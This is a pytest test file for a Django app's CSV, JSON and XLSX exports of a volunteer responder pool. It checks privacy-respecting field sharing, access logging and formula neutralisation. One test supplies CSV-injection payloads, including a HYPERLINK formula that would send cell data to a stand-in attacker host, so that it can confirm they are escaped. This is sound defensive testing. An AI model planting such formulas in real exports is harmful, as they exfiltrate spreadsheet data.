"""Exports of the responder pool: CSV and JSON streamed, XLSX built in Celery; each carries only
what people share, never a spreadsheet formula, and is recorded."""

import csv
import io
import json
import os
import re
import subprocess
import sys
import uuid
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
import redis
from django.conf import settings
from django.db import connection
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone, translation

from certificates import pool, tasks
from certificates.exports import build_xlsx
from certificates.models import PoolExport, PoolMember
from certificates.pool import COLUMNS, reference
from tests.audit import pool_entries, sent, sent_ids
from tests.conftest import login_with_mfa, skip_or_fail
from tests.helpers import content
from training.celery import app
from training.factories import UserFactory
from training.roles import Role
from training.spreadsheets import safe_cell

from .pool_factories import BOGOTA, KOLKATA, bulk_pool, pool_person, pool_track

pytestmark = pytest.mark.django_db
KEYS = [key for key, _label in COLUMNS]
HEADER = [str(label) for _key, label in COLUMNS]


@pytest.fixture
def track(db):
    return pool_track()


@pytest.fixture
def people(track):
    """Open shares everything (contact included); Private shares nothing; Quiet keeps only its
    contact and languages to itself."""
    return {
        "open": pool_person(
            track, name="Open", email="open@example.org", languages=[("es", "native")],
            region="Andes", time_zone=BOGOTA, focus_areas=["harassment"], channels=["chat"],
            hours_per_week=5, contact_phone="+57 300 1", contact_other="signal:open",
            share_email=True, share_phone=True, share_other=True,
        ),
        "private": pool_person(
            track, name="Private", email="private@example.org", languages=[("es", "fluent")],
            region="Hidden valley", time_zone=KOLKATA, focus_areas=["documentation"],
            channels=["phone"], hours_per_week=9, contact_phone="+91 1", contact_other="x",
            share_languages=False, share_region=False, share_time_zone=False,
            share_focus_areas=False, share_channels=False, share_availability=False,
            share_email=False, share_phone=False, share_other=False,
        ),
        "quiet": pool_person(
            track, name="Quiet", email="quiet@example.org", languages=[("fr", "working")],
            region="Sahel", contact_phone="+221 2", share_email=False, share_phone=False,
            share_other=False, share_languages=False,
        ),
    }  # fmt: skip


def csv_rows(response) -> list[list[str]]:
    text = content(response).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def by_name(rows: list[list[str]]) -> dict[str, dict[str, str]]:
    position = KEYS.index("display_name")
    return {row[position]: dict(zip(KEYS, row, strict=True)) for row in rows}


def _unescape(text: str) -> str:
    """XLSX stores control characters as _xHHHH_ (as spreadsheets read them); openpyxl leaves
    them so."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match.group(1), 16)), text)


def xlsx_rows(data: bytes) -> list[list[str]]:
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    sheet = book["Pool"]
    return [["" if cell is None else _unescape(str(cell)) for cell in row]
            for row in sheet.iter_rows(values_only=True)]  # fmt: skip


def build_through_the_view(client, django_capture_on_commit_callbacks, data=None):
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("certificates:export_xlsx"), data or {})
    assert response.status_code == 302
    export = PoolExport.objects.latest("pk")
    assert response["Location"] == reverse("certificates:export", args=[export.pk])
    export.refresh_from_db()
    return export


# --- CSV ----------------------------------------------------------------------------------------
def test_csv_streams_every_row_with_only_shared_fields(coord_client, coordinator, people, track):
    response = coord_client.post(reverse("certificates:export_csv"))
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse) and response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    # Recorded before any row leaves (with how many match); who was sent, as they are.
    access = pool_entries().get()
    assert (access.actor, access.action, access.count, sent(access)) == (
        coordinator, "pool.export_csv", 3, 0)  # fmt: skip

    rows = csv_rows(response)
    assert sent_ids(access) == {person.user_id for person in people.values()}
    assert rows[0] == HEADER
    people_rows = by_name(rows[1:])
    assert list(people_rows) == ["Open", "Private", "Quiet"]

    open_row = people_rows["Open"]
    assert open_row["email"] == "open@example.org"
    assert open_row["phone"] == "'+57 300 1"  # too short for a phone number: neutralised
    assert open_row["other_contact"] == "signal:open"
    # Labels, not codes.
    assert open_row["languages"] == "Spanish (First language)"
    assert (open_row["region"], open_row["time_zone"]) == ("Andes", BOGOTA)
    assert (open_row["focus_areas"], open_row["channels"]) == ("Harassment response", "Text chat")
    assert (open_row["availability"], open_row["hours_per_week"]) == ("Available", "5")
    assert open_row["id"] == safe_cell(reference(people["open"].user_id))

    private = people_rows["Private"]
    for key in ("email", "phone", "other_contact", "languages", "region", "time_zone",
                "focus_areas", "channels", "hours_per_week"):  # fmt: skip
        assert private[key] == "", key
    assert private["certified_until"] and private["availability"] == "Available"

    quiet = people_rows["Quiet"]
    assert (quiet["email"], quiet["phone"], quiet["languages"]) == ("", "", "")
    assert quiet["region"] == "Sahel"

    text = content(coord_client.post(reverse("certificates:export_csv")))
    for secret in (b"private@example.org", b"quiet@example.org", b"+91 1", b"Hidden valley",
                   b"+221 2", b"French"):  # fmt: skip
        assert secret not in text


def test_csv_follows_the_filters_and_records_them(coord_client, coordinator, people, track):
    pool_person(
        track, name="Resting", languages=[("es", "native")], status=PoolMember.Status.PAUSED
    )
    response = coord_client.post(reverse("certificates:export_csv"),
                                {"language": "es", "availability": "any"})  # fmt: skip
    names = list(by_name(csv_rows(response)[1:]))
    # Private speaks Spanish too, but keeps their languages to themselves.
    assert names == ["Open", "Resting"]
    access = pool_entries().get()
    assert access.action == "pool.export_csv"
    assert access.detail["filters"] == {"language": "es", "availability": "any"}
    assert sent(access) == access.count == 2


def test_a_large_csv_is_complete(coord_client, track):
    ids = bulk_pool(track, 650)
    response = coord_client.post(reverse("certificates:export_csv"))
    assert response.streaming
    rows = csv_rows(response)
    assert len(rows) == 651
    references = {row[0] for row in rows[1:]}
    assert references == {safe_cell(reference(pk)) for pk in ids}
    names = [row[1] for row in rows[1:]]
    assert names == sorted(names) and names[-1] == "bulk 00649"
    assert sent_ids(pool_entries().get()) == set(ids)


def test_csv_and_xlsx_neutralise_formulas(coord_client, track, django_capture_on_commit_callbacks):
    dangerous = {
        "display_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "region": "+1",
        "other_contact": "@cmd",
        "phone": "-2+3",
        "time_zone": "\tTab",
    }
    pool_person(track, name=dangerous["display_name"], region="+1", contact_other="@cmd",
                contact_phone="-2+3", time_zone="\tTab", share_email=True, share_phone=True,
                share_other=True)  # fmt: skip
    pool_person(track, name="\rCarriage", region="=1+1")
    pool_person(track, name="Plain name", region="Andes - north")

    def check(rows):
        table = {row[1]: dict(zip(KEYS, row, strict=True)) for row in rows[1:]}
        assert set(table) == {"'" + dangerous["display_name"], "'\rCarriage", "Plain name"}
        first = table["'" + dangerous["display_name"]]
        for key, value in dangerous.items():
            assert first[key] == "'" + value, key
            assert not first[key].startswith("''")
        carriage = table["'\rCarriage"]
        assert carriage["region"] == "'=1+1"
        plain = table["Plain name"]
        assert plain["region"] == "Andes - north"  # only a leading character matters
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    check(csv_rows(coord_client.post(reverse("certificates:export_csv"))))

    export = build_through_the_view(coord_client, django_capture_on_commit_callbacks)
    assert export.status == PoolExport.Status.READY
    download = coord_client.get(reverse("certificates:export_download", args=[export.pk]))
    check(xlsx_rows(content(download)))


PHONES = ["+34 612 345 678", "+1 555 010 9999", "+44 20 7946 0958"]


def test_phone_numbers_are_not_broken_by_formula_neutralisation(
    coord_client, track, django_capture_on_commit_callbacks
):
    for number, phone in enumerate(PHONES):
        pool_person(
            track,
            name=f"Phone {number}",
            contact_phone=phone,
            share_email=True,
            share_phone=True,
            share_other=True,
        )
    pool_person(track, name="Formula", contact_phone="+1+1", contact_other="-2+3",
                region="@SUM(A1)", share_email=True, share_phone=True,
                share_other=True)  # fmt: skip
    # Hyphens make arithmetic of a number ("+1-555-010-9999" is 1 - 555 - 10 - 9999).
    pool_person(
        track,
        name="Hyphens",
        contact_phone="+1-555-010-9999",
        share_email=True,
        share_phone=True,
        share_other=True,
    )

    def check(rows):
        table = by_name(rows[1:])
        assert [table[f"Phone {n}"]["phone"] for n in range(len(PHONES))] == PHONES
        formula = table["Formula"]
        assert (formula["phone"], formula["other_contact"], formula["region"]) == (
            "'+1+1", "'-2+3", "'@SUM(A1)",
        )  # fmt: skip
        assert table["Hyphens"]["phone"] == "'+1-555-010-9999"

    check(csv_rows(coord_client.post(reverse("certificates:export_csv"))))
    export = build_through_the_view(coord_client, django_capture_on_commit_callbacks)
    check(xlsx_rows(content(coord_client.get(reverse("certificates:export_download",
                                                     args=[export.pk])))))  # fmt: skip


def test_xlsx_keeps_numbers_as_numbers_dates_as_dates_and_labels_not_codes(
    coord_client, people, django_capture_on_commit_callbacks
):
    export = build_through_the_view(coord_client, django_capture_on_commit_callbacks)
    data = content(coord_client.get(reverse("certificates:export_download", args=[export.pk])))
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Pool"]
    rows = {row[1].value: dict(zip(KEYS, row, strict=True)) for row in sheet.iter_rows(min_row=2)}
    open_row = rows["Open"]
    hours = open_row["hours_per_week"]
    assert hours.data_type == "n" and hours.value == 5 and isinstance(hours.value, int)
    until = open_row["certified_until"]
    certified_until = pool.members({}).get(user=people["open"].user).certified_until
    assert until.is_date and until.value.date() == certified_until
    assert "yy" in until.number_format  # shown as a date, not a serial number
    # Labels, as a person reads them, not the codes the platform stores.
    assert open_row["languages"].value == "Spanish (First language)"
    assert open_row["focus_areas"].value == "Harassment response"
    assert open_row["channels"].value == "Text chat"
    assert open_row["availability"].value == "Available"
    assert open_row["time_zone"].value == BOGOTA
    # Nothing shared: an empty cell, not an empty string or a zero.
    assert rows["Private"]["hours_per_week"].value is None
    assert rows["Private"]["languages"].value is None
    assert [cell.value for cell in sheet[1]] == HEADER


def test_exports_use_labels_in_the_coordinators_language(
    client, people, django_capture_on_commit_callbacks
):
    coordinator = UserFactory(display_name="Coordinadora", roles=[Role.COORDINATOR],
                              preferred_language="es")  # fmt: skip
    login_with_mfa(client, coordinator)
    with translation.override("es"):
        header = [str(label) for _key, label in COLUMNS]
        spanish = pool.languages_text([{"code": "es", "level": "native"}])
    assert spanish != "Spanish (First language)"  # the test means something

    rows = csv_rows(client.post(reverse("certificates:export_csv")))
    assert rows[0] == header
    assert by_name(rows[1:])["Open"]["languages"] == spanish

    export = build_through_the_view(client, django_capture_on_commit_callbacks)
    rows = xlsx_rows(content(client.get(reverse("certificates:export_download",
                                                args=[export.pk]))))  # fmt: skip
    assert rows[0] == header
    assert by_name(rows[1:])["Open"]["languages"] == spanish


# --- JSON ---------------------------------------------------------------------------------------
def test_json_carries_only_shared_fields(coord_client, coordinator, people):
    response = coord_client.post(reverse("certificates:export_json"), {"availability": "any"})
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "application/json"
    assert sent(pool_entries().get()) == 0  # recorded before any row leaves
    document = json.loads(content(response))
    assert document["meta"]["filters"] == {"availability": "any"}
    assert len(document["results"]) == 3
    results = {item["display_name"]: item for item in document["results"]}
    assert set(results) == {"Open", "Private", "Quiet"}
    assert results["Open"]["email"] == "open@example.org"
    assert results["Open"]["phone"] == "+57 300 1"  # JSON is data, not a spreadsheet
    assert results["Open"]["languages"] == [{"code": "es", "level": "native"}]
    assert results["Private"] == {
        "id": reference(people["private"].user_id), "display_name": "Private",
        "languages": None, "region": None, "time_zone": None, "focus_areas": None,
        "channels": None, "availability": "available", "hours_per_week": None,
        "certified_until": results["Private"]["certified_until"], "email": None, "phone": None,
        "other_contact": None,
    }  # fmt: skip
    assert results["Quiet"]["email"] is None and results["Quiet"]["languages"] is None
    assert results["Quiet"]["region"] == "Sahel"
    access = pool_entries().get()
    assert (access.actor, access.action, sent(access)) == (coordinator, "pool.export_json", 3)
    assert access.detail["filters"] == {"availability": "any"}


def test_a_large_json_is_complete_and_valid(coord_client, track):
    ids = bulk_pool(track, 450)
    document = json.loads(content(coord_client.post(reverse("certificates:export_json"),
                                                   {"language": "es"})))  # fmt: skip
    assert len(document["results"]) == 450
    assert sent(pool_entries().get()) == 450
    assert {item["id"] for item in document["results"]} == {reference(pk) for pk in ids}
    emails = [item["email"] for item in document["results"]]
    assert sum(email is not None for email in emails) == 225  # every other person shares


@pytest.mark.parametrize("view", ["certificates:export_csv", "certificates:export_json"])
def test_an_interrupted_download_records_how_far_it_went(coord_client, track, view):
    bulk_pool(track, 650)
    response = coord_client.post(reverse(view))
    pieces = iter(response.streaming_content)
    first, second = next(pieces), next(pieces)  # the header, then the first batch of rows
    assert first and second
    # The coordinator's connection dropped: the server closes the response. (Its resources
    # only: response.close() would also send request_finished, which closes the test's
    # database connection.)
    for close in response._resource_closers:
        close()
    access = pool_entries().get()
    assert access.count == 650  # planned
    assert sent(access) == 200  # sent: the first batch, and no more


def test_an_empty_json_export_is_valid(coord_client):
    document = json.loads(content(coord_client.post(reverse("certificates:export_json"))))
    assert document["results"] == []
    access = pool_entries().get()
    assert (access.count, sent(access)) == (0, 0)


@pytest.mark.parametrize("view", ["certificates:export_csv", "certificates:export_json"])
def test_invalid_filters_export_nothing(coord_client, people, view):
    response = coord_client.post(reverse(view), {"tz_from": 6, "min_hours": "lots"})
    assert response.status_code == 302
    assert response["Location"] == reverse("certificates:pool_list")
    assert not pool_entries().exists()


# --- XLSX ---------------------------------------------------------------------------------------
def test_xlsx_is_built_and_downloaded(coord_client, coordinator, people, tmp_path,
                                      django_capture_on_commit_callbacks):  # fmt: skip
    export = build_through_the_view(coord_client, django_capture_on_commit_callbacks,
                                    {"language": "es", "availability": "any"})  # fmt: skip
    assert export.status == PoolExport.Status.READY
    assert (export.total, export.done) == (1, 1)
    assert export.filters == {"language": "es", "availability": "any"}
    # Stored privately, in this test's own folder.
    path = Path(export.file.path)
    assert path.is_file() and tmp_path in path.parents
    assert not str(path).startswith(str(Path(settings.MEDIA_ROOT)))

    page = coord_client.get(reverse("certificates:export", args=[export.pk]))
    html = page.content.decode()
    assert "Ready: 1 person." in html
    assert reverse("certificates:export_download", args=[export.pk]) in html
    assert 'http-equiv="refresh"' not in html

    download = coord_client.get(reverse("certificates:export_download", args=[export.pk]))
    assert download.status_code == 200
    assert "attachment" in download["Content-Disposition"]
    assert ".xlsx" in download["Content-Disposition"]
    assert "no-store" in download["Cache-Control"]
    rows = xlsx_rows(content(download))
    assert rows[0] == HEADER
    assert [row[1] for row in rows[1:]] == ["Open"]
    access = pool_entries().get()
    assert (access.actor, access.action, access.count) == (coordinator, "pool.export_xlsx", 1)
    assert sent_ids(access) == {people["open"].user_id}
    assert access.detail == {"filters": {"language": "es", "availability": "any"},
                             "export": export.pk}  # fmt: skip


def test_xlsx_carries_only_shared_fields(coord_client, people, django_capture_on_commit_callbacks):
    export = build_through_the_view(coord_client, django_capture_on_commit_callbacks)
    rows = xlsx_rows(content(coord_client.get(reverse("certificates:export_download",
                                                      args=[export.pk]))))  # fmt: skip
    table = {row[1]: dict(zip(KEYS, row, strict=True)) for row in rows[1:]}
    assert set(table) == {"Open", "Private", "Quiet"}
    assert table["Open"]["email"] == "open@example.org"
    assert table["Open"]["languages"] == "Spanish (First language)"
    for key in ("email", "phone", "other_contact", "languages", "region", "time_zone",
                "focus_areas", "channels", "hours_per_week"):  # fmt: skip
        assert table["Private"][key] == "", key
    assert (table["Quiet"]["email"], table["Quiet"]["phone"], table["Quiet"]["languages"]) == (
        "", "", "",
    )  # fmt: skip
    assert table["Quiet"]["region"] == "Sahel"


def test_the_status_page_shows_progress_while_the_spreadsheet_is_built(
    coord_client, people, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = coord_client.post(reverse("certificates:export_xlsx"))
    assert len(callbacks) == 1  # queued only once the request commits
    export = PoolExport.objects.get()
    assert response["Location"] == reverse("certificates:export", args=[export.pk])
    assert export.status == PoolExport.Status.PENDING
    assert export.expires_at > timezone.now() + timedelta(hours=settings.ACOMPANA_EXPORT_HOURS - 1)

    page = coord_client.get(response["Location"])
    html = page.content.decode()
    assert "Being built… 0%" in html and 'http-equiv="refresh"' in html
    assert reverse("certificates:export_download", args=[export.pk]) not in html
    assert coord_client.get(reverse("certificates:export_download",
                                    args=[export.pk])).status_code == 404  # fmt: skip

    PoolExport.objects.filter(pk=export.pk).update(status="running", total=3, done=1)
    html = coord_client.get(response["Location"]).content.decode()
    assert "Being built… 33%" in html and 'value="33"' in html

    callbacks[0]()  # the worker's turn
    export.refresh_from_db()
    assert export.status == PoolExport.Status.READY and export.percent == 100
    html = coord_client.get(response["Location"]).content.decode()
    assert "Ready: 3 people." in html and 'http-equiv="refresh"' not in html


def test_only_the_coordinator_who_asked_may_see_or_download(
    client, coord_client, people, django_capture_on_commit_callbacks
):
    export = build_through_the_view(coord_client, django_capture_on_commit_callbacks)
    other = UserFactory(display_name="Other coordinator", roles=[Role.COORDINATOR])
    login_with_mfa(client, other)
    assert client.get(reverse("certificates:export", args=[export.pk])).status_code == 404
    assert client.get(reverse("certificates:export_download",
                              args=[export.pk])).status_code == 404  # fmt: skip
    assert client.get(reverse("certificates:export", args=[export.pk + 1000])).status_code == 404


def test_an_expired_link_no_longer_downloads(coord_client, people,
                                             django_capture_on_commit_callbacks):  # fmt: skip
    export = build_through_the_view(coord_client, django_capture_on_commit_callbacks)
    url = reverse("certificates:export_download", args=[export.pk])
    assert coord_client.get(url).status_code == 200
    PoolExport.objects.filter(pk=export.pk).update(expires_at=timezone.now() - timedelta(seconds=1))
    assert coord_client.get(url).status_code == 404
    html = coord_client.get(reverse("certificates:export", args=[export.pk])).content.decode()
    assert "This link has expired" in html and url not in html


def test_a_failed_build_is_shown_as_failed(coord_client, people, monkeypatch,
                                           django_capture_on_commit_callbacks):  # fmt: skip
    def broken(row):
        raise RuntimeError("disk full")

    monkeypatch.setattr(pool, "cells", broken)
    with pytest.raises(RuntimeError), django_capture_on_commit_callbacks(execute=True):
        coord_client.post(reverse("certificates:export_xlsx"))
    export = PoolExport.objects.get()
    assert export.status == PoolExport.Status.FAILED and not export.file
    html = coord_client.get(reverse("certificates:export", args=[export.pk])).content.decode()
    assert "could not be built" in html
    assert coord_client.get(reverse("certificates:export_download",
                                    args=[export.pk])).status_code == 404  # fmt: skip


def test_building_twice_changes_nothing(coord_client, people, django_capture_on_commit_callbacks):
    export = build_through_the_view(coord_client, django_capture_on_commit_callbacks)
    name = export.file.name
    assert build_xlsx(export.pk) == "ready"
    export.refresh_from_db()
    assert export.file.name == name
    access = pool_entries().get()
    assert sent(access) == 3  # the people of the first build, once


def test_invalid_filters_queue_no_spreadsheet(coord_client, people,
                                              django_capture_on_commit_callbacks):  # fmt: skip
    with django_capture_on_commit_callbacks(execute=True):
        response = coord_client.post(reverse("certificates:export_xlsx"),
                                     {"tz_from": 3, "tz_to": 99})  # fmt: skip
    assert response["Location"] == reverse("certificates:pool_list")
    assert not PoolExport.objects.exists() and not pool_entries().exists()


def test_xlsx_requires_post(coord_client):
    assert coord_client.get(reverse("certificates:export_xlsx")).status_code == 405


def test_purge_deletes_expired_files_and_keeps_the_record(
    coord_client, people, django_capture_on_commit_callbacks
):
    old = build_through_the_view(coord_client, django_capture_on_commit_callbacks)
    current = build_through_the_view(coord_client, django_capture_on_commit_callbacks)
    old_path, current_path = Path(old.file.path), Path(current.file.path)
    assert old_path.is_file() and current_path.is_file() and old_path != current_path
    PoolExport.objects.filter(pk=old.pk).update(expires_at=timezone.now() - timedelta(minutes=1))

    assert tasks.exports_purge.delay().get() == 1
    assert not old_path.exists()
    assert current_path.is_file()
    old.refresh_from_db()
    assert old.file.name == "" and old.status == PoolExport.Status.READY
    assert tasks.exports_purge() == 0  # idempotent
    assert pool_entries().filter(action="pool.export_xlsx").count() == 2  # the record stays


# --- The access record --------------------------------------------------------------------------
def test_every_export_is_recorded_and_shown_in_the_log(
    coord_client, coordinator, people, django_capture_on_commit_callbacks
):
    content(coord_client.post(reverse("certificates:export_csv"), {"language": "es"}))
    content(coord_client.post(reverse("certificates:export_json"), {"tz_from": -5, "tz_to": -5}))
    build_through_the_view(coord_client, django_capture_on_commit_callbacks,
                           {"min_hours": 3, "availability": "any"})  # fmt: skip

    entries = list(pool_entries())
    assert [(e.actor, e.action, e.detail["filters"], sent(e)) for e in entries] == [
        (coordinator, "pool.export_csv", {"language": "es"}, 1),
        (coordinator, "pool.export_json", {"tz_from": -5, "tz_to": -5}, 1),
        (coordinator, "pool.export_xlsx", {"min_hours": 3, "availability": "any"}, 1),
    ]
    assert all("token" not in entry.detail for entry in entries)

    page = coord_client.get(reverse("certificates:access_log"))
    assert page.status_code == 200
    html = page.content.decode()
    tbody = html[html.index("<tbody>") : html.index("</tbody>")]
    assert tbody.count("data-entry=") == 3
    for text in ("CSV", "JSON", "XLSX", "Coord"):
        assert text in tbody, text
    # The filters as the form shows them: its labels, and the values it displays.
    for key, label, value in pool.filter_items(
        {"language": "es", "tz_from": -5, "min_hours": 3, "availability": "any"}
    ):
        assert f'data-filter="{key}">{label}: {value}<' in tbody, key
    assert "language: es" not in tbody and "UTC-5" in tbody


def test_the_log_is_shared_between_coordinators(client, coord_client, people):
    content(coord_client.post(reverse("certificates:export_csv")))
    other = UserFactory(display_name="Second coordinator", roles=[Role.COORDINATOR])
    login_with_mfa(client, other)
    html = client.get(reverse("certificates:access_log")).content.decode()
    assert "Coord" in html and "CSV" in html


# --- A real worker ------------------------------------------------------------------------------
ROOT = Path(__file__).resolve().parents[2]
BROKER = os.environ.get("CELERY_BROKER_URL", "redis://127.0.0.1:6379/14")


@pytest.mark.integration
@pytest.mark.django_db(transaction=True)
def test_a_real_worker_builds_the_spreadsheet(coordinator, tmp_path):
    if connection.vendor != "postgresql":
        skip_or_fail("the worker needs a database it can share with the test: set DATABASE_URL")
    try:
        redis.Redis.from_url(BROKER, socket_connect_timeout=2).ping()
    except redis.RedisError:
        skip_or_fail(f"Redis does not answer at {BROKER}")

    track = pool_track()
    pool_person(track, name="=SUM(A1:A9)", languages=[("es", "native")], share_email=True,
                share_phone=True, share_other=True, contact_phone="+1 555")  # fmt: skip
    bulk_pool(track, 2100)  # more than one chunk of progress
    export = PoolExport.objects.create(requested_by=coordinator, filters={"language": "es"},
                                       expires_at=timezone.now() + timedelta(hours=1))  # fmt: skip

    db = settings.DATABASES["default"]
    queue = f"test-{uuid.uuid4().hex}"
    env = {
        **os.environ,
        "DJANGO_SETTINGS_MODULE": "training.settings.test",
        "DATABASE_URL": (
            f"postgres://{db['USER']}:{db.get('PASSWORD') or ''}@{db['HOST']}:{db['PORT']}/"
            f"{db['NAME']}"
        ),
        "CELERY_TASK_ALWAYS_EAGER": "false",
        "CELERY_BROKER_URL": BROKER,
        "CELERY_RESULT_BACKEND": BROKER,
        "ACOMPANA_PRIVATE_ROOT": str(settings.ACOMPANA_PRIVATE_ROOT),
    }
    worker = subprocess.Popen(
        [sys.executable, "-m", "celery", "-A", "training", "worker", "-Q", queue, "--pool",
         "solo", "--concurrency", "1", "--without-heartbeat", "--without-gossip",
         "--without-mingle", "-l", "info"],
        cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
    )  # fmt: skip
    previous = (app.conf.task_always_eager, app.conf.broker_url, app.conf.result_backend)
    app.conf.task_always_eager = False
    app.conf.broker_url = BROKER
    app.conf.result_backend = BROKER
    try:
        result = app.send_task("certificates.tasks.export_xlsx", args=[export.pk], queue=queue)
        try:
            value = result.get(timeout=90)
        except Exception as exc:
            worker.terminate()
            output = worker.communicate(timeout=10)[0]
            pytest.fail(f"the worker did not finish the task: {exc!r}\n{output[-3000:]}")
        assert value == "built"
    finally:
        app.conf.task_always_eager, app.conf.broker_url, app.conf.result_backend = previous
        worker.terminate()
        try:
            worker.wait(timeout=15)
        except subprocess.TimeoutExpired:
            worker.kill()

    export.refresh_from_db()
    assert export.status == PoolExport.Status.READY
    assert (export.total, export.done) == (2101, 2101)  # the Spanish speakers only
    path = Path(export.file.path)
    assert tmp_path in path.parents and path.is_file()
    rows = xlsx_rows(path.read_bytes())
    assert rows[0] == HEADER and len(rows) == 2102
    assert rows[1][1] == "'=SUM(A1:A9)" and rows[1][KEYS.index("phone")] == "'+1 555"
    assert all(row[1].startswith("bulk ") for row in rows[2:])
    access = pool_entries().get()
    assert (access.actor, access.action, sent(access)) == (coordinator, "pool.export_xlsx", 2101)
